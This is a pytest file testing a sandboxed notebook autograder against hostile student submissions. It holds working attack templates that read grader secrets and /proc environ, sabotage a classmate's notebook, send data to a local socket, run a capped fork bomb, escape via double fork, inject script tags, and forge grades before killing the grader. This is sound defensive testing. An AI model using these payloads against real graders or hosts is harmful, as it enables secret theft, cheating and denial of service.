"""Issue 9: hostile learners against the sandboxed grader, one test per attack.

Every test drives the public command (``python -m course_lib.cli grade``) in a subprocess
and checks the outcome: the attacker scores 0 for the attacked function, an honest
classmate graded in the same run keeps full marks, files on disk are unchanged, no
process is left, no secret reaches any output, no connection is made, and every
submitted file gets a row. Attack notebooks are solutions/04_backward_pass.ipynb
(sigmoid_backward 1 point, linear_backward 2, backprop 3) with backprop made independent
of sigmoid_backward, so an attack in sigmoid_backward costs exactly 1 point.

If bubblewrap cannot run here the grader exits 2 and the fixtures fail (they never
skip): CI must prove the sandbox. Only the uid test skips, when not run as root.
"""

from __future__ import annotations

import csv
import hashlib
import importlib.util
import io
import json
import os
import re
import secrets
import select
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
import pytest
from exercise_tools import EXERCISES, SOLUTIONS, answers, grade_id

from course_lib.exercises.assignments import ASSIGNMENTS

STEM = "04_backward_pass"
FULL = {ex.grade_id: ex.points for ex in ASSIGNMENTS[STEM].exercises}  # from the spec
ZERO = dict.fromkeys(FULL, 0)
SIGMOID_ATTACKED = {**FULL, "sigmoid_backward": 0}
SIGMOID_BODY = "return a * (1.0 - a) * dC_da"
SOLUTION = SOLUTIONS / f"{STEM}.ipynb"
LIMITS = ["--cell-timeout", "5", "--call-timeout", "3", "--memory-mb", "1024"]
TIMEOUT = 120  # seconds for one grade command: nothing hangs forever
ESCAPE_MESSAGE = "<script>alert(1)</script>\n# Fake heading\n✅ sigmoid_backward: passed"


# ----- running the command -----


def grade(
    out: Path,
    *submissions: Path | str,
    extra: Sequence[str] = (),
    env: dict[str, str] | None = None,
    jobs: int = 2,
    timeout: float = TIMEOUT,
) -> subprocess.CompletedProcess[str]:
    """``course-lib grade`` on ``submissions`` into ``out``, with short limits and umask 022."""
    return subprocess.run(
        grade_args(out, submissions, extra, jobs),
        capture_output=True,
        encoding="utf-8",
        errors="backslashreplace",
        env=env or dict(os.environ),
        timeout=timeout,
        cwd=out.parent,
        umask=0o022,
    )


def grade_args(
    out: Path, submissions: Sequence[Path | str], extra: Sequence[str], jobs: int
) -> list[str]:
    return [
        sys.executable,
        "-m",
        "course_lib.cli",
        "grade",
        "--assignment",
        STEM,
        "--out",
        str(out),
        "--jobs",
        str(jobs),
        "--no-progress",
        *LIMITS,
        *extra,
        *map(str, submissions),
    ]


def ran(run: subprocess.CompletedProcess[str]) -> None:
    """Fail (never skip) with the grader's words when grading did not run."""
    assert run.returncode == 0, (
        f"course-lib grade exited {run.returncode}\nstderr:\n{run.stderr[-4000:]}"
        f"\nstdout:\n{run.stdout[-2000:]}"
    )


def grades(out: Path) -> dict[str, dict[str, int]]:
    """grades.csv (strict UTF-8) as {submission: {grade_id: score}}, in file order."""
    text = (out / "grades.csv").read_bytes().decode("utf-8")
    table = list(csv.reader(io.StringIO(text)))
    assert table[0] == ["submission", *FULL, "total", "max_score"]
    rows = {}
    for row in table[1:]:
        scores = dict(zip(FULL, map(int, row[1:-2]), strict=True))
        assert int(row[-2]) == sum(scores.values()) and row[-1] == str(sum(FULL.values())), row
        rows[row[0]] = scores
    return rows


def folder(out: Path, name: str) -> Path:
    return out / "submissions" / name


def feedback(out: Path, name: str) -> str:
    return (folder(out, name) / "feedback.md").read_bytes().decode("utf-8")


def results(out: Path, name: str) -> dict[str, Any]:
    return json.loads((folder(out, name) / "results.json").read_bytes().decode("utf-8"))


def grading(out: Path, name: str) -> dict[str, Any]:
    return json.loads((folder(out, name) / "grading.json").read_bytes().decode("utf-8"))


def plain(text: str) -> str:
    """Text without markdown's backslash escapes (markers are looked for in this)."""
    return text.replace("\\", "")


def output_texts(out: Path, *runs: subprocess.CompletedProcess[str]) -> dict[str, str]:
    """Every file under ``out`` and the grader's stdout and stderr, as text."""
    texts = {
        str(p): p.read_bytes().decode("utf-8", "replace") for p in out.rglob("*") if p.is_file()
    }
    for i, run in enumerate(runs):
        texts[f"stdout of run {i}"], texts[f"stderr of run {i}"] = run.stdout, run.stderr
    return texts


def found_in(texts: dict[str, str], needles: Sequence[str]) -> list[tuple[str, str]]:
    """(where, needle) for each needle found in a text, escaped or not."""
    return [
        (where, needle)
        for where, text in texts.items()
        for needle in needles
        if needle in text or needle in plain(text)
    ]


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ----- processes on the host -----


def proc_stats() -> Iterator[tuple[int, int, int, bytes]]:
    """(pid, ppid, start time, state) of every process."""
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/stat", "rb") as f:
                fields = f.read().rsplit(b")", 1)[1].split()
        except (OSError, IndexError):
            continue
        yield int(entry.name), int(fields[1]), int(fields[19]), fields[0]


def processes_with(token: str) -> list[int]:
    """Live (not zombie) processes with ``token`` in their command line or name."""
    raw, pids = token.encode(), []
    for pid, _, _, state in proc_stats():
        if state == b"Z" or pid == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read()
            with open(f"/proc/{pid}/comm", "rb") as f:
                comm = f.read().strip()
        except OSError:
            continue
        if raw in cmdline or comm == raw[:15]:
            pids.append(pid)
    return pids


def descendants(root: int) -> set[tuple[int, int]]:
    """(pid, start time) of every process below ``root``."""
    children: dict[int, list[tuple[int, int]]] = {}
    for pid, ppid, start, _ in proc_stats():
        children.setdefault(ppid, []).append((pid, start))
    found: set[tuple[int, int]] = set()
    todo = [root]
    while todo:
        for child in children.get(todo.pop(), []):
            if child not in found:
                found.add(child)
                todo.append(child[0])
    return found


def alive(pid: int, start: int) -> bool:
    return any(p == pid and s == start and state != b"Z" for p, _, s, state in proc_stats())


def kill(pids: Sequence[int]) -> None:
    """Kill processes this test's attacks started (found by their token)."""
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass


# ----- attack notebooks -----


def base_notebook(source: Path = SOLUTION) -> nbformat.NotebookNode:
    """The notebook at ``source``; for the solution, backprop stops using sigmoid_backward."""
    nb = nbformat.read(source, as_version=4)
    for cell in nb.cells:
        if grade_id(cell) == "backprop_answer" and source == SOLUTION:
            old = "dC_dz1 = sigmoid_backward(a1, dC_da1)"
            assert old in cell.source
            cell.source = cell.source.replace(old, "dC_dz1 = a1 * (1.0 - a1) * dC_da1")
    return nb


def fill(template: str, **values: Any) -> str:
    """The code ``template`` with each ``__NAME__`` replaced by repr(value)."""
    code = textwrap.dedent(template).strip()
    for name, value in values.items():
        assert f"__{name}__" in code, name
        code = code.replace(f"__{name}__", repr(value))
    return code


def notebook(
    path: Path | bytes, body: str | None = None, cells: Sequence[str] = (), source: Path = SOLUTION
) -> None:
    """Write the base notebook with sigmoid_backward's body replaced by ``body`` and
    ``cells`` added after sigmoid_backward's answer cell (at the end for an exercise)."""
    nb = base_notebook(source)
    index = len(nb.cells)
    for i, cell in enumerate(nb.cells):
        if grade_id(cell) == "sigmoid_backward_answer":
            if body is not None:
                assert SIGMOID_BODY in cell.source
                cell.source = cell.source.replace(SIGMOID_BODY, textwrap.indent(body, "    ")[4:])
            if source == SOLUTION:
                index = i + 1
    for k, code in enumerate(cells):
        new = nbformat.v4.new_code_cell(code)
        new.id = f"attack-{k}"
        nb.cells.insert(index + k, new)
    data = nbformat.writes(nb).encode("utf-8")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    with os.fdopen(fd, "wb") as f:
        f.write(data)


TAMPER = r"""
    paths, writable = __PATHS__, 0
    for path in paths:
        try:
            with open(path, "ab"):  # opened for appending, nothing written
                writable += 1
        except OSError:
            pass
    raise RuntimeError(f"writable={writable} of {len(paths)}")
"""

OUTLIVE = r"""
    import os, sys, time
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", __CODE__, __TOKEN__])
        finally:
            os._exit(0)
    os.wait()
    started, deadline = False, time.monotonic() + 2
    while not started and time.monotonic() < deadline:  # is the grandchild running?
        time.sleep(0.1)
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    started = started or __TOKEN__.encode() in f.read()
            except OSError:
                pass
    raise RuntimeError(f"started={started}")
"""

THIEF = r"""
    import json, os
    notes = []
    for label, path in __TARGETS__:
        try:
            if os.path.isdir(path):
                text = " ".join(sorted(os.listdir(path)))
            else:
                with open(path, "rb") as f:
                    text = f.read().decode("utf-8", "replace")
            if path.endswith(".ipynb"):  # the interesting part: the answers
                lines = []
                for cell in json.loads(text)["cells"]:
                    src = "".join(cell["source"])
                    if "### BEGIN SOLUTION" in src:
                        src = src.split("### BEGIN SOLUTION")[1].split("### END SOLUTION")[0]
                        lines += [line.strip() for line in src.splitlines() if line.strip()]
                text = " | ".join(lines)
            notes.append(f"LEAK-{label}: {text[:80]}")
        except Exception as err:
            notes.append(f"DENIED-{label}: {type(err).__name__}")
    try:  # sabotage the classmate
        with open(__CLASSMATE__, "r+b") as f:
            raw = f.read()
            f.seek(0)
            f.truncate()
            f.write(raw.replace(b"return a * (1.0 - a) * dC_da", b"return dC_da"))
        notes.append("LEAK-overwrite")
    except Exception as err:
        notes.append(f"DENIED-overwrite: {type(err).__name__}")
    raise RuntimeError(" ; ".join(notes))
"""

# a top-level cell: the environment, its own and its nearest ancestors' (only the planted
# variable is copied from an ancestor: the machine's own environment stays out of test files)
THIEF_ENV = r"""
    import os
    notes, pid = [], os.getppid()
    for _ in range(3):
        if pid <= 0 or notes:
            break
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                for item in f.read().split(b"\0"):
                    if item.startswith(b"COURSE_GRADER_SECRET="):
                        notes.append("LEAK-parentenv: " + item.decode("utf-8", "replace"))
            with open(f"/proc/{pid}/status") as f:
                pid = int([line for line in f if line.startswith("PPid:")][0].split()[1])
        except (OSError, ValueError, IndexError) as err:
            notes.append(f"DENIED-parentenv: {type(err).__name__}")
            break
    for key in ("COURSE_GRADER_SECRET", "HOME", "TMPDIR"):
        notes.append(f"{key}={os.environ.get(key)}")
    notes.append("env: " + " ".join(sorted(os.environ)))
    raise RuntimeError(" ; ".join(notes))
"""

COPYCAT = r"""
    import json
    for path in __PATHS__:
        try:
            with open(path, encoding="utf-8") as f:
                cells = json.load(f)["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for cell in cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
        break
"""

NETWORK = r"""
    import socket
    try:
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as s:
            s.sendall(b"the grades of my classmates")
        note = "LEAK-connected"
    except OSError as err:
        note = f"DENIED-connect: {type(err).__name__}"
    raise RuntimeError(note)
"""

# capped (1000 forks, 1.5 s) so that a run without the sandbox cannot take the machine down
FORK_BOMB = r"""
    import ctypes, os, time
    start, forked, failed, named = time.monotonic(), 0, False, False
    while forked < 1000 and time.monotonic() - start < 1.5:
        try:
            pid = os.fork()
        except OSError:
            failed = True
            break
        if pid == 0:
            try:  # a name the host can find (prctl: /proc/self/comm may not be writable)
                if ctypes.CDLL(None).prctl(15, __TOKEN__.encode(), 0, 0, 0) != 0:
                    with open("/proc/self/comm", "w") as f:
                        f.write(__TOKEN__)
                time.sleep(30)
            finally:
                os._exit(0)
        forked += 1
        deadline = time.monotonic() + 1
        while forked == 1 and not named and time.monotonic() < deadline:
            time.sleep(0.05)  # can the host find the children by their name?
            try:
                with open(f"/proc/{pid}/comm") as f:
                    named = f.read().strip() == __TOKEN__
            except OSError:
                pass
    raise RuntimeError(f"forked={forked} failed={failed} named={named};")
"""

WHOAMI = r"""
    import os
    with open("/proc/self/status") as f:
        cap = [line.split()[1] for line in f if line.startswith("CapEff:")][0]
    raise RuntimeError(f"uid={os.getuid()}; euid={os.geteuid()}; capeff={cap};")
"""

# tries to fill the machine's disk or memory with files, everywhere it might write
FILLER = r"""
    import os
    written = []
    for folder in ["/", "/home", "/dev/shm", "/usr", "/etc", "/proc/self"]:
        try:
            with open(os.path.join(folder, "filler"), "w") as f:
                f.write("x")
            written.append(folder)
        except OSError:
            pass
    sizes = {}
    for folder in ["/tmp", os.path.expanduser("~")]:
        block, total = b"x" * (1 << 20), 0
        for i in range(200):  # 200 MB in files under the 16 MB file limit
            try:
                with open(os.path.join(folder, f"filler{i}"), "wb") as f:
                    for _ in range(8):
                        f.write(block)
                        total += len(block)
            except OSError:
                break
        sizes[folder] = total >> 20
    raise RuntimeError(f"written={'+'.join(written) or 'none'}; mb_tmp={sizes['/tmp']}; "
                       f"mb_home={sizes[os.path.expanduser('~')]};")
"""

ESCAPE = r"""
    print(__MESSAGE__)
    raise RuntimeError(__MESSAGE__)
"""

# walks up its ancestors to the grader; only a grader of this test's folder is touched
KILLER = r"""
    import hashlib, json, os, signal
    pid, grader = os.getppid(), None
    for _ in range(50):
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode("utf-8", "replace").split("\0")
            with open(f"/proc/{pid}/status") as f:
                ppid = int([line for line in f if line.startswith("PPid:")][0].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if "--out" in args and __SUBS__ in args:
            grader = pid, args[args.index("--out") + 1]
            break
        pid = ppid
    if grader is None:
        return None
    gpid, out = grader
    for name, path, scores, total in __FORGED__:
        with open(path, "rb") as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        tests = [{"name": gid, "score": total // 3, "max_score": points, "status": "passed",
                  "output": "", "visibility": "visible"} for gid, points in __POINTS__.items()]
        forged = {"results.json": {"score": total, "output": "", "tests": tests},
                  "grading.json": {"source": path, "sha256": digest, "scores": scores},
                  "feedback.md": f"Score: **{total} / 6**"}
        for where in (os.path.join(out, "submissions", name), os.path.join(out, name)):
            os.makedirs(where, exist_ok=True)
            for file, content in forged.items():
                with open(os.path.join(where, file), "w") as f:
                    f.write(content if isinstance(content, str) else json.dumps(content))
    with open(os.path.join(out, "grades.csv"), "w") as f:
        f.write("submission,sigmoid_backward,linear_backward,backprop,total,max_score\n"
                "killer,100,100,100,300,6\nzz_classmate,0,0,0,0,6\n")
    os.kill(gpid, signal.SIGKILL)
    return None
"""


def grader_files() -> list[Path]:
    """Every .py file of the installed numpy and course_lib packages."""
    files: list[Path] = []
    for package in ("numpy", "course_lib"):
        spec = importlib.util.find_spec(package)
        assert spec is not None and spec.submodule_search_locations
        for location in spec.submodule_search_locations:
            files += sorted(Path(location).resolve().rglob("*.py"))
    return files


def solution_lines() -> list[str]:
    """The lines of the solution's answers (between BEGIN and END SOLUTION)."""
    lines = []
    for text in answers(STEM).values():
        body = text.split("### BEGIN SOLUTION")[1].split("### END SOLUTION")[0]
        lines += [line.strip() for line in body.splitlines() if len(line.strip()) >= 12]
    assert SIGMOID_BODY in lines
    return lines


# ----- one run: most attackers and three honest classmates, 2 jobs -----


@dataclass
class Batch:
    run: subprocess.CompletedProcess[str]
    out: Path
    paths: dict[str, Path]  # submission name -> file
    before: dict[Path, str]  # sha256 of files that must not change
    secret: str  # COURSE_GRADER_SECRET of the grader
    home_secret: str  # content of $HOME/secret.txt of the grader
    host_file: Path  # a file the outliving process tries to append to
    host_file_existed: bool  # right after the command returned
    outliving: list[int]  # processes left, right after the command returned
    bomb_left: list[int]
    connected: bool  # a connection reached the test's listening socket


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Batch]:
    base = tmp_path_factory.mktemp("batch")
    subs, out, home, tmp, host = (base / d for d in ("class", "out", "home", "tmp", "host"))
    for d in (subs, home, tmp, host):
        d.mkdir()
    secret, home_secret = f"grader-secret-{secrets.token_hex(16)}", secrets.token_hex(16)
    (home / "secret.txt").write_text(f"home-secret-{home_secret}\n")
    outlive_token, bomb_token = f"outlive-{secrets.token_hex(8)}", f"bomb{secrets.token_hex(5)}"
    host_file = host / "written-by-a-learner.txt"
    names = [
        "aa_classmate",
        "copycat",
        "escaping",
        "filler",
        "fork_bomb",
        "network",
        "outlive",
        "tamper",
        "thief",
        "victim",
        "whoami",
        "zz_classmate",
    ]
    paths = {name: subs / f"{name}.ipynb" for name in names}
    for classmate in ("aa_classmate", "victim", "zz_classmate"):  # honest, full marks
        notebook(paths[classmate])
    notebook(paths["tamper"], fill(TAMPER, PATHS=[str(p) for p in grader_files()]))
    child = (
        "import time\n"
        "for _ in range(100):\n"
        "    try:\n"
        f"        with open({str(host_file)!r}, 'a') as f:\n"
        "            f.write('still running\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "    time.sleep(0.2)\n"
    )
    notebook(paths["outlive"], fill(OUTLIVE, CODE=child, TOKEN=outlive_token))
    # the thief reads and sabotages its own victim, so the other classmates tell the
    # other attacks apart
    targets = [
        ("secret", str(home / "secret.txt")),
        ("out", str(out)),
        ("classmate", str(paths["victim"])),
        ("solution", str(SOLUTION)),
    ]
    notebook(
        paths["thief"],
        fill(THIEF, TARGETS=targets, CLASSMATE=str(paths["victim"])),
        cells=[fill(THIEF_ENV)],
    )
    notebook(
        paths["copycat"],
        cells=[fill(COPYCAT, PATHS=[str(paths["aa_classmate"]), str(SOLUTION)])],
        source=EXERCISES / f"{STEM}.ipynb",
    )
    notebook(paths["fork_bomb"], fill(FORK_BOMB, TOKEN=bomb_token))
    notebook(paths["whoami"], fill(WHOAMI))
    notebook(paths["filler"], fill(FILLER))
    escape = fill(ESCAPE, MESSAGE=ESCAPE_MESSAGE)
    notebook(paths["escaping"], escape, cells=[escape])
    evil = subs / "<script>evil.ipynb"  # a file name is learner text too
    notebook(evil)
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(tmp), "COURSE_GRADER_SECRET": secret}
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        notebook(paths["network"], fill(NETWORK, PORT=port))
        before = {p: sha256(p) for p in [*grader_files(), SOLUTION, *paths.values(), evil]}
        run = grade(out, subs, env=env)
        # right after the command returned
        outliving, bomb_left = processes_with(outlive_token), processes_with(bomb_token)
        host_file_existed = host_file.exists()
        readable, _, _ = select.select([listener], [], [], 0.5)
        connected = False
        if readable:
            try:
                conn, _ = listener.accept()
                conn.close()
                connected = True
            except BlockingIOError:
                pass
        kill(outliving + bomb_left)
        paths["<script>evil"] = evil
        yield Batch(
            run,
            out,
            paths,
            before,
            secret,
            home_secret,
            host_file,
            host_file_existed,
            outliving,
            bomb_left,
            connected,
        )
    finally:
        listener.close()
        kill(processes_with(outlive_token) + processes_with(bomb_token))


@pytest.fixture(scope="module")
def batch_rows(batch: Batch) -> dict[str, dict[str, int]]:
    ran(batch.run)
    return grades(batch.out)


def assert_classmates_full(rows: dict[str, dict[str, int]], *names: str) -> None:
    for name in names or ("aa_classmate", "victim", "zz_classmate"):
        assert rows.get(name) == FULL, f"classmate {name}: {rows.get(name)}"


def test_every_file_gets_a_sorted_row_and_submissions_stay_unchanged(batch, batch_rows):
    assert len(batch_rows) == len(batch.paths)  # one row per submitted file
    assert set(batch.paths) - {"<script>evil"} <= set(batch_rows)
    assert list(batch_rows) == sorted(batch_rows)
    assert_classmates_full(batch_rows)
    assert [p for p in batch.paths.values() if sha256(p) != batch.before[p]] == []
    files = {p.resolve(): p for p in batch.paths.values()}
    for name, scores in batch_rows.items():
        stored = grading(batch.out, name)
        assert stored["scores"] == scores
        path = files[Path(stored["source"]).resolve()]
        assert Path(stored["source"]).is_absolute() and stored["sha256"] == sha256(path)


def test_learner_cannot_modify_grader_or_numpy_source_files(batch, batch_rows):
    changed = [p for p in grader_files() if sha256(p) != batch.before.get(p)]  # or new
    assert changed == []
    assert "writable=0 " in plain(feedback(batch.out, "tamper"))
    assert batch_rows["tamper"] == SIGMOID_ATTACKED
    assert_classmates_full(batch_rows)


def test_learner_process_cannot_outlive_grading_or_write_to_the_host(batch, batch_rows):
    assert "started=True" in plain(feedback(batch.out, "outlive"))  # the attack did run
    assert batch.outliving == [], "a process started by the learner outlived grading"
    assert not batch.host_file_existed and not batch.host_file.exists()
    assert batch_rows["outlive"] == SIGMOID_ATTACKED
    assert_classmates_full(batch_rows, "zz_classmate")  # graded after it, in parallel


def test_learner_cannot_read_or_overwrite_classmates_instructor_files_or_grader_secrets(
    batch, batch_rows
):
    victim = batch.paths["victim"]
    assert sha256(victim) == batch.before[victim], "the classmate's notebook was changed"
    assert sha256(SOLUTION) == batch.before[SOLUTION]
    assert_classmates_full(batch_rows, "victim")
    leaked = found_in(
        output_texts(batch.out, batch.run), [batch.secret, batch.home_secret, *solution_lines()]
    )
    assert leaked == []
    said = plain(feedback(batch.out, "thief"))
    assert "DENIED-" in said and "LEAK-" not in said
    assert batch_rows["thief"] == SIGMOID_ATTACKED


def test_learner_cannot_score_by_running_a_classmates_answers(batch, batch_rows):
    assert batch_rows["copycat"] == ZERO  # every function it tried to steal
    assert_classmates_full(batch_rows, "aa_classmate")


def test_learner_cannot_open_a_network_connection(batch, batch_rows):
    assert not batch.connected, "a connection reached 127.0.0.1 from the learner's code"
    assert "DENIED-connect" in plain(feedback(batch.out, "network"))
    assert batch_rows["network"] == SIGMOID_ATTACKED


def test_fork_bomb_is_contained_and_leaves_no_process(batch, batch_rows):
    text = plain(feedback(batch.out, "fork_bomb"))
    said = re.search(r"forked=(\d+) failed=(\w+) named=(\w+);", text)
    assert said, text
    assert said[2] == "True", f"{said[0]}: no process-count limit stopped the bomb"
    assert said[1] == "0" or said[3] == "True", f"{said[0]}: its processes cannot be found"
    assert batch.bomb_left == [], f"{len(batch.bomb_left)} processes of the fork bomb left"
    assert batch_rows["fork_bomb"] == SIGMOID_ATTACKED
    assert_classmates_full(batch_rows, "zz_classmate")


@pytest.mark.skipif(os.geteuid() != 0, reason="needs a grader running as root")
def test_learner_code_runs_unprivileged_when_the_grader_is_root(batch, batch_rows):
    text = plain(feedback(batch.out, "whoami"))
    uid, euid, cap = (re.search(rf"\b{key}=(\w+);", text) for key in ("uid", "euid", "capeff"))
    assert uid and euid and cap, text
    assert int(uid[1]) != 0 and int(euid[1]) != 0
    assert set(cap[1]) == {"0"}, f"effective capabilities {cap[1]}"
    assert batch_rows["whoami"] == SIGMOID_ATTACKED


def test_learner_files_stay_in_two_small_folders_in_memory(batch, batch_rows):
    """Nothing outside the sandbox's home and /tmp is writable, and those two are capped
    (64 MB each, in memory): a learner cannot fill the host's disk or memory."""
    text = plain(feedback(batch.out, "filler"))
    found = re.search(r"written=([^;]+); mb_tmp=(\d+); mb_home=(\d+);", text)
    assert found, text
    assert found[1] == "none"
    assert 0 < int(found[2]) <= 64 and 0 < int(found[3]) <= 64
    assert batch_rows["filler"] == SIGMOID_ATTACKED
    assert_classmates_full(batch_rows, "aa_classmate", "zz_classmate")


def test_learner_text_is_escaped_in_feedback_and_results(batch, batch_rows):
    assert batch_rows["escaping"] == SIGMOID_ATTACKED
    known = set(batch.paths) - {"<script>evil"}
    evil = next(name for name in batch_rows if name not in known)  # named after its file
    for name in ("escaping", evil):
        md = feedback(batch.out, name)
        raw = (folder(batch.out, name) / "results.json").read_text(encoding="utf-8")
        assert "<script>" not in md and "<script>" not in raw
        # once parsed, a tag may remain only where Gradescope shows it as plain text
        data = json.loads(raw)
        outputs = [(data["output"], data.get("output_format"))] + [
            (t["output"], t.get("output_format", data.get("output_format"))) for t in data["tests"]
        ]
        assert [f for text, f in outputs if "<script>" in text and f != "text"] == []
        if name == "escaping":  # (the honest one has a real ✅ sigmoid_backward line)
            lines = md.splitlines() + "\n".join(text for text, _ in outputs).splitlines()
            forged = ("# Fake", "✅ sigmoid_backward: passed")
            assert [line for line in lines if line.lstrip().startswith(forged)] == []


def test_output_files_follow_the_umask(batch, batch_rows):
    files = [batch.out / "grades.csv"] + [
        folder(batch.out, name) / file
        for name in batch_rows
        for file in ("feedback.md", "results.json", "grading.json")
    ]
    modes = {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in files}
    assert {p: m for p, m in modes.items() if m != "0o644"} == {}


# ----- attacks that need a run of their own -----


def test_learner_cannot_forge_grades_or_kill_the_grader_even_with_resume(tmp_path):
    subs, out = tmp_path / "class", tmp_path / "out"
    subs.mkdir()
    killer, classmate = subs / "killer.ipynb", subs / "zz_classmate.ipynb"
    notebook(classmate)
    forged = [("killer", str(killer), FULL, 300), ("zz_classmate", str(classmate), ZERO, 0)]
    notebook(killer, fill(KILLER, SUBS=str(subs), FORGED=forged, POINTS=FULL))
    first = grade(out, subs)
    first_rows = grades(out) if first.returncode == 0 else None
    second = grade(out, subs, extra=["--resume"])
    ran(first)
    assert first_rows == {"killer": SIGMOID_ATTACKED, "zz_classmate": FULL}
    ran(second)
    assert grades(out) == {"killer": SIGMOID_ATTACKED, "zz_classmate": FULL}
    assert grading(out, "killer")["scores"] == SIGMOID_ATTACKED
    forgery = re.compile(r"(?<![\w.])300(?![\w.])")
    assert [where for where, text in output_texts(out).items() if forgery.search(text)] == []


def test_without_a_working_sandbox_nothing_is_graded(tmp_path):
    subs = tmp_path / "class"
    subs.mkdir()
    notebook(subs / "zz_classmate.ipynb")
    # a missing binary, and one that cannot make the sandbox (it exits 1)
    for i, (bwrap, cause) in enumerate(
        [("/nonexistent/bwrap", "/nonexistent/bwrap"), ("/bin/false", "sandbox")]
    ):
        out = tmp_path / f"out{i}"
        run = grade(out, subs, env={**os.environ, "COURSE_LIB_BWRAP": bwrap})
        assert run.returncode == 2, (bwrap, run.returncode, run.stderr[-2000:])
        assert run.stderr.startswith("course-lib grade:"), run.stderr
        assert cause in run.stderr, run.stderr
        fixes = ("install", "--no-sandbox", "course-lib doctor", "COURSE_LIB_BWRAP")
        assert any(fix in run.stderr for fix in fixes), run.stderr
        assert not (out / "grades.csv").exists()
        assert not (out / "submissions").exists() or not any((out / "submissions").iterdir())


def test_no_sandbox_grades_but_says_unsafe_everywhere(tmp_path):
    subs, out = tmp_path / "class", tmp_path / "out"
    subs.mkdir()
    notebook(subs / "zz_classmate.ipynb")
    notebook(subs / "none.ipynb", "return None")
    env = {**os.environ, "COURSE_LIB_BWRAP": "/nonexistent/bwrap"}
    run = grade(out, subs, extra=["--no-sandbox"], env=env)
    ran(run)
    assert "UNSAFE" in run.stderr
    assert grades(out) == {"none": SIGMOID_ATTACKED, "zz_classmate": FULL}
    for name in ("none", "zz_classmate"):
        assert "UNSAFE" in feedback(out, name)
        assert "UNSAFE" in results(out, name)["output"]


def test_resume_regrades_edited_notebooks_and_tampered_or_broken_results(tmp_path):
    subs, out = tmp_path / "class", tmp_path / "out"
    subs.mkdir()
    names = ["edited", "kept", "malformed", "score_999", "swapped"]
    for name in names:
        notebook(subs / f"{name}.ipynb")
    ran(grade(out, subs))
    assert grades(out) == dict.fromkeys(names, FULL)
    for name in names:
        stored = grading(out, name)
        assert Path(stored["source"]).resolve() == (subs / f"{name}.ipynb").resolve()
        assert stored["sha256"] == sha256(subs / f"{name}.ipynb")

    def stamps() -> dict[str, int]:
        return {name: (folder(out, name) / "results.json").stat().st_mtime_ns for name in names}

    before = stamps()
    # (a) the learner changed the notebook: sigmoid_backward now fails
    notebook(subs / "edited.ipynb", "return dC_da")
    # (b) a score above the function's points in grading.json
    stored = grading(out, "score_999")
    stored["scores"]["sigmoid_backward"] = 999
    (folder(out, "score_999") / "grading.json").write_text(json.dumps(stored))
    # (c) a grading.json that is not JSON
    (folder(out, "malformed") / "grading.json").write_text('{"source": ')
    # (d) the stored result of another file
    (folder(out, "swapped") / "grading.json").write_bytes(
        (folder(out, "kept") / "grading.json").read_bytes()
    )
    ran(grade(out, subs, extra=["--resume"]))
    assert grades(out) == {
        "edited": SIGMOID_ATTACKED,
        "kept": FULL,
        "malformed": FULL,
        "score_999": FULL,
        "swapped": FULL,
    }
    after = stamps()
    regraded = {name for name in names if after[name] != before[name]}
    assert regraded == {"edited", "malformed", "score_999", "swapped"}  # "kept" was reused
    for name in names:
        stored = grading(out, name)
        assert Path(stored["source"]).resolve() == (subs / f"{name}.ipynb").resolve()
        assert stored["sha256"] == sha256(subs / f"{name}.ipynb")
        assert stored["scores"] == grades(out)[name]


def test_fifo_symlink_device_and_oversized_files_get_zero_rows_without_hanging(tmp_path):
    subs, out = tmp_path / "class", tmp_path / "out"
    subs.mkdir()
    classmate = subs / "classmate.ipynb"
    notebook(classmate)
    before = sha256(classmate)
    os.mkfifo(subs / "x.ipynb")  # reading it would block forever
    (subs / "y.ipynb").symlink_to(classmate)
    # an honest notebook padded to 2 MB: full marks if it were read
    nb = base_notebook()
    nb.cells.append(nbformat.v4.new_markdown_cell("padding " * 262_144))
    nbformat.write(nb, subs / "big.ipynb")
    assert (subs / "big.ipynb").stat().st_size > 2 * 1024 * 1024
    try:
        run = grade(out, subs, "/dev/null", extra=["--max-size-mb", "1"], timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("course-lib grade hung (on the FIFO?)")
    ran(run)
    assert grades(out) == {"big": ZERO, "classmate": FULL, "null": ZERO, "x": ZERO, "y": ZERO}
    assert "larger than" in plain(feedback(out, "big"))
    for name in ("null", "x", "y"):
        assert feedback(out, name).strip(), name  # a reason is given
    assert stat.S_ISFIFO(os.lstat(subs / "x.ipynb").st_mode)
    assert (subs / "y.ipynb").is_symlink() and sha256(classmate) == before


def test_lone_surrogate_and_non_utf8_file_name_each_get_a_row(tmp_path):
    subs, out = tmp_path / "class", tmp_path / "out"
    subs.mkdir()
    notebook(subs / "zz_classmate.ipynb")
    notebook(subs / "surrogate.ipynb", r'raise ValueError("\ud800 lone surrogate")')
